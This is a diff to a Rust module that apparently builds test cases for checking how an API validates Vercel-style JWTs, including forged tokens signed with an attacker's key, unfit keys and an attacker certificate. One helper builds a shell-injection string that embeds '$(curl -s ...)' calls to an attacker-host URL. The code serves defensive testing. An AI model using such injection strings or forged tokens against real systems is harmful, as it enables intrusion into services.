@@ -1,6 +1,8 @@
 //! The parts of the cases: keys, the header and claims of a valid token, and ways to change one thing.
 
 use std::io;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::{Duration, SystemTime};
 
 use aws_lc_rs::hmac;
@@ -8,8 +10,7 @@ use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
 use serde_json::{Value, json};
 
-use super::issuer::ATTACKER;
-use super::keys::{EcKey, UnfitKey};
+use super::keys::{EcKey, UnfitKey, certificate};
 use crate::{Deployment, SigningKey, base64url};
 
 /// The `kid`s of the keys that the issuer publishes.
@@ -30,6 +31,14 @@ pub(crate) enum Request {
     Header(&'static str, String),
     /// In the query, as `access_token`.
     Query(String),
+    /// In the body of a form (RFC 6750, section 2.2).
+    Form(String),
+    /// The first token, which the API must accept, and then the second token, whose answer counts.
+    AfterAccepted(String, String),
+    /// No token, by this method.
+    Method(&'static str),
+    /// No token, and this other spelling of the path.
+    Path(fn(&str) -> Option<String>),
     /// The case can't be tried with these options.
     Skip(&'static str),
 }
@@ -42,11 +51,17 @@ pub(crate) struct Kit {
     pub(crate) deployment: Deployment,
     /// Whether the subject has Vercel's form, so that a case can change one part of it.
     pub(crate) has_vercel_subject: bool,
-    /// The origin of the local issuer. The attacker's keys are on this origin, too.
-    pub(crate) origin: String,
+    /// The origin of the attacker's host.
+    pub(crate) attacker_origin: String,
+    keys: Arc<Keys>,
+    /// How many tokens were made, so that no two tokens have the same claims.
+    tokens: AtomicU64,
+}
+
+/// The keys of a check. The issuer publishes the second RSA key under several `kid`s.
+pub(crate) struct Keys {
     pub(crate) main: SigningKey,
     pub(crate) rotated: SigningKey,
-    pub(crate) next: SigningKey,
     /// A key that the issuer never publishes.
     pub(crate) attacker: SigningKey,
     pub(crate) small: UnfitKey,
@@ -54,34 +69,51 @@ pub(crate) struct Kit {
     pub(crate) ec: EcKey,
 }
 
-impl Kit {
-    /// Makes the keys.
+impl Keys {
+    /// Makes the keys, each RSA key on its own thread.
     ///
     /// # Errors
     ///
     /// The system has no randomness.
-    pub(crate) fn new(issuer: &str, audience: &str, subject: &str, origin: &str) -> io::Result<Self> {
-        let vercel = vercel_subject(subject);
-        let mut deployment = Deployment::default();
-        if let Some([team, project, environment]) = vercel {
-            (deployment.team, deployment.project) = (team.to_owned(), project.to_owned());
-            environment.clone_into(&mut deployment.environment);
-        }
+    pub(crate) fn generate() -> io::Result<Self> {
+        let [main, rotated, attacker] =
+            [MAIN, ROTATED, "attacker"].map(|kid| std::thread::spawn(move || SigningKey::generate(kid)));
+        let key = |thread: std::thread::JoinHandle<io::Result<SigningKey>>| {
+            thread.join().unwrap_or_else(|_| Err(io::Error::other("the thread that made a key has panicked")))
+        };
         Ok(Self {
-            issuer: issuer.to_owned(),
-            audience: audience.to_owned(),
-            subject: subject.to_owned(),
-            deployment,
-            has_vercel_subject: vercel.is_some(),
-            origin: origin.to_owned(),
-            main: SigningKey::generate(MAIN)?,
-            rotated: SigningKey::generate(ROTATED)?,
-            next: SigningKey::generate(NEXT)?,
-            attacker: SigningKey::generate("attacker")?,
+            main: key(main)?,
+            rotated: key(rotated)?,
+            attacker: key(attacker)?,
             small: UnfitKey::small(),
             exponent_one: UnfitKey::with_exponent_one(&[0xff; 256]),
             ec: EcKey::generate()?,
         })
+    }
+}
+
+impl std::ops::Deref for Kit {
+    type Target = Keys;
+
+    fn deref(&self) -> &Keys {
+        &self.keys
+    }
+}
+
+impl Kit {
+    /// Makes the parts for an API that trusts this issuer, audience and subject.
+    pub(crate) fn new(issuer: &str, audience: &str, subject: &str, attacker_origin: &str, keys: Arc<Keys>) -> Self {
+        let vercel = vercel_subject(subject);
+        Self {
+            issuer: issuer.to_owned(),
+            audience: audience.to_owned(),
+            subject: subject.to_owned(),
+            deployment: deployment(subject),
+            has_vercel_subject: vercel.is_some(),
+            attacker_origin: attacker_origin.to_owned(),
+            keys,
+            tokens: AtomicU64::new(0),
+        }
     }
 
     /// Returns the header of a valid token.
@@ -100,7 +132,9 @@ impl Kit {
     }
 
     fn claims_of(&self, deployment: &Deployment, now: SystemTime) -> Value {
-        let mut claims = deployment.claims(&self.issuer, now, Duration::from_secs(3600));
+        // A cache of tokens that leaves a part out would otherwise only show if two tokens are made in one second.
+        let number = self.tokens.fetch_add(1, Ordering::Relaxed);
+        let mut claims = deployment.claims(&self.issuer, now, Duration::from_secs(3600 + number));
         claims["aud"] = json!(self.audience);
         if deployment.subject() == self.deployment.subject() {
             claims["sub"] = json!(self.subject);
@@ -152,12 +186,25 @@ impl Kit {
         }
         let mut deployment = self.deployment.clone();
         change(&mut deployment);
+        // Another team or project has other ids, as at Vercel.
+        if deployment.team != self.deployment.team {
+            "team_another".clone_into(&mut deployment.team_id);
+        }
+        if (&deployment.team, &deployment.project) != (&self.deployment.team, &self.deployment.project) {
+            "prj_another".clone_into(&mut deployment.project_id);
+        }
         Request::Token(self.signed(&self.header(), &self.claims_of(&deployment, SystemTime::now())))
     }
 
-    /// A token that was made at another time.
-    pub(crate) fn made(&self, now: SystemTime) -> Request {
-        Request::Token(self.signed(&self.header(), &self.claims_of(&self.deployment, now)))
+    /// A token that expires at this time, and was made an hour before.
+    pub(crate) fn expiring(&self, expiry: SystemTime) -> String {
+        let made = crate::unix_seconds(expiry - Duration::from_secs(3600));
+        let times = [("nbf", made), ("iat", made), ("exp", crate::unix_seconds(expiry))];
+        // The number of the token makes it unlike each other token.
+        let number = json!(self.tokens.fetch_add(1, Ordering::Relaxed).to_string());
+        let claims = changed(self.claims(), "jti", number);
+        let claims = times.iter().fold(claims, |claims, (name, time)| changed(claims, name, json!(time)));
+        self.signed(&self.header(), &claims)
     }
 
     /// Valid claims and this header, signed with an attacker's key.
@@ -204,9 +251,21 @@ impl Kit {
         Request::Token(format!("{message}.{}", encode(2, &signature)))
     }
 
-    /// Returns a URL of the attacker.
-    pub(crate) fn attacker_url(&self, path: &str) -> String {
-        format!("{}{ATTACKER}{path}", self.origin)
+    /// Returns a URL on the attacker's host for this case.
+    pub(crate) fn attacker_url(&self, case: &str, path: &str) -> String {
+        format!("{}/{case}{path}", self.attacker_origin)
+    }
+
+    /// Returns a text that names an address on the attacker's host, and that fetches it if a shell reads the text: as a
+    /// word, in double quotes, or in single quotes.
+    pub(crate) fn address_and_command(&self, case: &str) -> String {
+        let url = self.attacker_url(case, "/.well-known/jwks");
+        format!("{url}#$(curl -s {url})'$(curl -s {url})'")
+    }
+
+    /// Returns the certificate of the attacker's key.
+    pub(crate) fn attacker_certificate(&self) -> Vec<u8> {
+        certificate(&self.attacker.public_key_info(), |message| self.attacker.signature(message))
     }
 
     /// Returns the attacker's public key, as a JWKS has it.
@@ -217,7 +276,7 @@ impl Kit {
     /// Returns what the issuer publishes in this phase.
     pub(crate) fn published(&self, phase: Phase) -> Vec<Value> {
         let next = |kid: &str, changes: &[(&str, Value)]| {
-            let jwk = changed(self.next.jwk(), "kid", json!(kid));
+            let jwk = changed(self.rotated.jwk(), "kid", json!(kid));
             changes.iter().fold(jwk, |jwk, (name, value)| changed(jwk, name, value.clone()))
         };
         match phase {
@@ -276,6 +335,16 @@ pub(crate) fn pem(label: &str, der: &[u8]) -> String {
     let text = STANDARD.encode(der);
     let lines: Vec<_> = text.as_bytes().chunks(64).map(String::from_utf8_lossy).collect();
     format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
+}
+
+/// Returns the deployment that has this subject.
+pub(crate) fn deployment(subject: &str) -> Deployment {
+    let mut deployment = Deployment::default();
+    if let Some([team, project, environment]) = vercel_subject(subject) {
+        (deployment.team, deployment.project) = (team.to_owned(), project.to_owned());
+        environment.clone_into(&mut deployment.environment);
+    }
+    deployment
 }
 
 /// Returns team, project and environment of a subject in Vercel's form.
